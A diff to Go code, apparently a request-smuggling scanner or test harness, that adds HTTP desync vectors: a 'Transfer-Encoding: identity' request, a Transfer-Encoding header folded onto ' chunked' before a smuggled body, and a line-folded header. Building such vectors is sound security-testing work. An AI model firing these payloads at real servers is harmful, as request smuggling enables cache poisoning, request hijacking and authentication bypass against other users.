@@ -202,6 +202,15 @@ func vectors() []vector {
 		to("HTTP/1.0 kept alive", func(_ *front, a target) string {
 			return fmt.Sprintf("%s %s HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\n%sContent-Length: %d\r\n\r\n%s", a.method, a.path, ofParts, len(padding+smuggle), padding+smuggle)
 		}),
+		to("a transfer as it is", func(_ *front, a target) string {
+			return a.method + " " + a.path + " HTTP/1.1\r\nHost: x\r\n" + aForm + "Transfer-Encoding: identity\r\n\r\n" + smuggle
+		}),
+		to("a transfer in two lines", func(_ *front, a target) string {
+			return a.method + " " + a.path + " HTTP/1.1\r\nHost: x\r\n" + aForm + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + smuggle
+		}),
+		to("a header in two lines", func(_ *front, a target) string {
+			return request(a.method, a.path, "X-A: 1\r\n X-B: 2\r\n"+aForm, smuggle)
+		}),
 		to("signed in, parts without the token", func(f *front, a target) string {
 			return request(a.method, a.path, ofParts+"Cookie: "+f.consumer+"\r\n", prime+padding+smuggle)
 		}),
